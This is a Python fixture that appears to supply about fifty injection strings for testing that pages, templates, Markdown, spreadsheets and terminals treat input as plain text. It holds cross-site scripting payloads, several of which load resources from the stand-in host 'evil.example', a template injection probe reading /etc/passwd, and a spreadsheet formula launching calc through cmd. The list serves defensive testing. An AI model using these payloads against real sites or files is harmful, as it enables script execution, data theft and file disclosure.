"""Fifty texts that would do something if a page, a chart, a template or a spreadsheet took them for more than text."""

#: Where a payload would send what it steals; it is no host.
HOST = "evil.example"

#: By name: each opens a dialog, or asks for something of `HOST`, where it is taken for what it pretends to be.
PAYLOADS = {
    # mark-up
    "script": "<script>alert()</script>",
    "script in capitals": "<SCRIPT>alert()</SCRIPT >",
    "script from elsewhere": f"<script src=https://{HOST}/x.js></script>",
    "script as a module": f"<script type=module>import 'https://{HOST}/m.js'; alert()</script>",
    "script with attributes": "<script/x=y>alert()</script/z>",
    "script in a comment": "<script><!--\nalert()//--></script>",
    "image": "<img src=x onerror=alert()>",
    "image without spaces": '<img/src="x"/onerror="alert()"/>',
    "image from elsewhere": f"<img src=https://{HOST}/i.png>",
    "image set": f"<picture><source srcset=https://{HOST}/s.png><img src=x onerror=alert()></picture>",
    "image with a line end": "<img\nsrc=x\nonerror\n=\nalert()>",
    "drawing": "<svg onload=alert()>",
    "drawing with a script": "<svg><script>alert&#40;&#41;</script></svg>",
    "drawing that is animated": "<svg><animate onbegin=alert() attributeName=x dur=1s></svg>",
    "drawing of a stranger": f"<svg><use href=https://{HOST}/u.svg#x /><image href=https://{HOST}/d.png /></svg>",
    "formula that hides mark-up": "<math><mtext><table><mglyph><style><img src=x onerror=alert()></style></mglyph>"
    "</table></mtext></math>",
    "formula with a link": "<math href=javascript:alert()>x</math>",
    "page in the page": "<iframe srcdoc='<script>parent.alert()</script>'></iframe>",
    "page by address": "<iframe src=javascript:parent.alert()></iframe>",
    "object": f"<object data=https://{HOST}/o.swf></object><embed src=https://{HOST}/e.swf>",
    "field with the focus": "<input autofocus onfocus=alert()>",
    "unfolded details": "<details open ontoggle=alert()>x</details>",
    "film": "<video><source onerror=alert()></video>",
    "moving text": "<style>@keyframes k{}</style><b style=animation-name:k onanimationstart=alert()>x</b>",
    "form": f"<form action=https://{HOST}/f id=f><input name=q></form><button form=f formaction=javascript:alert()>x",
    "refresh": f"<meta http-equiv=refresh content='0;url=https://{HOST}/r'>",
    "base": f"<base href=https://{HOST}/>",
    "style from elsewhere": f"<link rel=stylesheet href=https://{HOST}/l.css>",
    "rules of style": f"<style>@import 'https://{HOST}/c.css'; body{{background:url(https://{HOST}/b.png)}}</style>",
    "comment that ends": "<!--><img src=x onerror=alert()>-->",
    "character data": "<![CDATA[<img src=x onerror=alert()>]]><![CDATA[</script><script>alert()</script>]]>",
    "instruction": f"<?xml-stylesheet href='https://{HOST}/p.xsl'?><img src=x onerror=alert()>",
    "what does not show": "<noscript><p title='</noscript><img src=x onerror=alert()>'></noscript>",
    "template element": "<template shadowrootmode=open><script>alert()</script></template>",
    # out of where a text is put
    "out of a script": "</script><script>alert()</script>",
    "out of a style": "</style><script>alert()</script>",
    "out of a title": "</title><script>alert()</script>",
    "out of an area": "</textarea></noscript></xmp><script>alert()</script>",
    "out of double quotes": '" onmouseover=alert() autofocus onfocus=alert() tabindex=1 x="',
    "out of single quotes": "' onmouseover=alert() autofocus onfocus=alert() tabindex=1 x='",
    "out of an address": "javascript:alert()//\" onload=\"alert()",
    "out of JSON": '"}]};alert();//</script><script>alert()//',
    # other languages
    "entities": "&lt;script&gt;alert()&lt;/script&gt;&#60;img src=x onerror=alert()&#62;&NewLine;&colon;",
    "other signs": "＜script＞alert()＜/script＞ +ADw-script+AD4-alert() \u202e>tpircs<\u202c\ufeff\u2028",
    "template braces": "{{ ''.__class__.__mro__[1].__subclasses__() }}{% include '/etc/passwd' %}{x.__class__}${7*7}",
    "Markdown": f"[x](javascript:alert()) ![i](https://{HOST}/m.png) <https://{HOST}> `<img src=x onerror=alert()>`",
    "mathematics": "$\\href{javascript:alert()}{x}$ \\(\\unicode{<img src=x onerror=alert()>}\\) $$\\frac{$ $_^\\$",
    "spreadsheet": f"=HYPERLINK(\"https://{HOST}\",\"x\")+cmd|'/C calc'!A0",
    "terminal": "\x1b]8;;https://evil.example\x07<img src=x onerror=alert()>\x1b[31m\x08\x7f",
    "zero bytes": "<scr\x00ipt>alert()</scr\x00ipt><img src=x onerror\x00=alert()><img src=x onerror=alert()>",
}  # fmt: skip
